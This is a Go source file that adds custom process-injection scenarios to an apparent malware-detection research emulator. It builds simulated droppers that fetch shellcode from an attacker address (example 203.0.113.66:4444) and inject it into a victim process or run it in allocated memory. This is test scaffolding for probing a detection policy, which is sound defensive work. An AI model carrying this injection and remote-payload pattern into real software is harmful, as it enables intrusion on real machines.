@@ -1,0 +1,180 @@
+package samples
+
+import (
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+
+	"faros/internal/guest/gnet"
+	"faros/internal/isa"
+	"faros/internal/peimg"
+)
+
+// ScenarioFile is the on-disk JSON description of a custom injection
+// scenario: bring-your-own shellcode (in FAROS-32 text assembly or hex)
+// plus the standard victim/injector scaffolding. It lets a researcher
+// probe the detection policy without writing Go:
+//
+//	{
+//	  "name": "my_attack",
+//	  "victim": "winlogon.exe",
+//	  "injector": "dropper.exe",
+//	  "payload_asm": "payload.s",
+//	  "attacker": {"ip": "203.0.113.66", "port": 4444},
+//	  "self_inject": false,
+//	  "max_instr": 4000000
+//	}
+//
+// Exactly one of payload_asm (a path, relative to the scenario file) or
+// payload_hex must be set.
+type ScenarioFile struct {
+	Name       string `json:"name"`
+	Victim     string `json:"victim"`
+	Injector   string `json:"injector"`
+	PayloadASM string `json:"payload_asm,omitempty"`
+	PayloadHex string `json:"payload_hex,omitempty"`
+	Attacker   struct {
+		IP   string `json:"ip"`
+		Port uint16 `json:"port"`
+	} `json:"attacker"`
+	// SelfInject uses the reverse_tcp_dns shape (no separate victim).
+	SelfInject bool   `json:"self_inject,omitempty"`
+	DelayInstr uint64 `json:"delay_instr,omitempty"`
+	MaxInstr   uint64 `json:"max_instr,omitempty"`
+}
+
+// LoadScenarioFile parses and materializes a scenario description.
+func LoadScenarioFile(path string) (Spec, error) {
+	raw, err := os.ReadFile(path)
+	if err != nil {
+		return Spec{}, fmt.Errorf("samples: %w", err)
+	}
+	var sf ScenarioFile
+	if err := json.Unmarshal(raw, &sf); err != nil {
+		return Spec{}, fmt.Errorf("samples: %s: %w", path, err)
+	}
+	return BuildScenario(sf, filepath.Dir(path))
+}
+
+// BuildScenario materializes a ScenarioFile into a runnable Spec. baseDir
+// resolves relative payload paths.
+func BuildScenario(sf ScenarioFile, baseDir string) (Spec, error) {
+	if sf.Name == "" {
+		return Spec{}, fmt.Errorf("samples: scenario needs a name")
+	}
+	if sf.Injector == "" {
+		sf.Injector = "dropper.exe"
+	}
+	if sf.Attacker.IP == "" {
+		sf.Attacker.IP = AttackerAddr.IP
+		sf.Attacker.Port = AttackerAddr.Port
+	}
+	if sf.DelayInstr == 0 {
+		sf.DelayInstr = 400
+	}
+	if sf.MaxInstr == 0 {
+		sf.MaxInstr = 4_000_000
+	}
+
+	payload, err := scenarioPayload(sf, baseDir)
+	if err != nil {
+		return Spec{}, err
+	}
+
+	addr := gnet.Addr{IP: sf.Attacker.IP, Port: sf.Attacker.Port}
+	spec := Spec{
+		Name:      sf.Name,
+		Endpoints: []EndpointSpec{{Addr: addr, Endpoint: oneShot{delay: sf.DelayInstr, payload: payload}}},
+		MaxInstr:  sf.MaxInstr,
+	}
+
+	switch {
+	case sf.SelfInject:
+		spec.Programs = []Program{selfInjectorAt(sf.Injector, uint32(len(payload)), addr)}
+		spec.AutoStart = []string{sf.Injector}
+	default:
+		if sf.Victim == "" {
+			return Spec{}, fmt.Errorf("samples: scenario %q needs a victim (or self_inject)", sf.Name)
+		}
+		spec.Programs = []Program{
+			victimProgram(sf.Victim),
+			networkInjectorAt(sf.Injector, sf.Victim, uint32(len(payload)), addr),
+		}
+		spec.AutoStart = []string{sf.Victim, sf.Injector}
+	}
+	return spec, nil
+}
+
+// scenarioPayload loads/assembles the payload bytes.
+func scenarioPayload(sf ScenarioFile, baseDir string) ([]byte, error) {
+	switch {
+	case sf.PayloadASM != "" && sf.PayloadHex != "":
+		return nil, fmt.Errorf("samples: scenario %q: payload_asm and payload_hex are mutually exclusive", sf.Name)
+	case sf.PayloadASM != "":
+		src, err := os.ReadFile(filepath.Join(baseDir, sf.PayloadASM))
+		if err != nil {
+			return nil, fmt.Errorf("samples: %w", err)
+		}
+		block, err := isa.Parse(string(src))
+		if err != nil {
+			return nil, fmt.Errorf("samples: %s: %w", sf.PayloadASM, err)
+		}
+		return block.Assemble(0)
+	case sf.PayloadHex != "":
+		clean := strings.Map(func(r rune) rune {
+			if r == ' ' || r == '\n' || r == '\t' {
+				return -1
+			}
+			return r
+		}, sf.PayloadHex)
+		payload, err := hex.DecodeString(clean)
+		if err != nil {
+			return nil, fmt.Errorf("samples: payload_hex: %w", err)
+		}
+		return payload, nil
+	}
+	return nil, fmt.Errorf("samples: scenario %q has no payload", sf.Name)
+}
+
+// networkInjectorAt is networkInjector with a configurable attacker.
+func networkInjectorAt(name, victimName string, payloadLen uint32, addr gnet.Addr) Program {
+	b := peimg.NewBuilder(name)
+	b.DataBlk.Label("victim").DataString(victimName)
+	buf := b.BSS(8192)
+	emitConnect(b, addr)
+	emitRecv(b, buf, payloadLen)
+	emitFindAndOpenProcess(b, "victim")
+	emitInjectAndRun(b, buf, payloadLen)
+	emitExit(b, 0)
+	return build(b, name)
+}
+
+// selfInjectorAt mirrors selfInjector with a configurable attacker.
+func selfInjectorAt(name string, payloadLen uint32, addr gnet.Addr) Program {
+	b := peimg.NewBuilder(name)
+	buf := b.BSS(8192)
+	emitConnect(b, addr)
+	emitRecv(b, buf, payloadLen)
+	b.Text.Movi(isa.EBX, 0)
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Movi(isa.EDX, payloadLen)
+	b.Text.Movi(isa.ESI, 7)
+	b.CallImport("VirtualAlloc")
+	b.Text.Mov(isa.EBP, isa.EAX)
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Label("sf_cp")
+	b.Text.Cmpi(isa.ECX, payloadLen)
+	b.Text.Jge("sf_go")
+	b.Text.Movi(isa.ESI, buf)
+	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
+	b.Text.StbIdx(isa.EBP, isa.ECX, isa.EAX)
+	b.Text.Addi(isa.ECX, 1)
+	b.Text.Jmp("sf_cp")
+	b.Text.Label("sf_go")
+	b.Text.CallReg(isa.EBP)
+	emitExit(b, 0)
+	return build(b, name)
+}
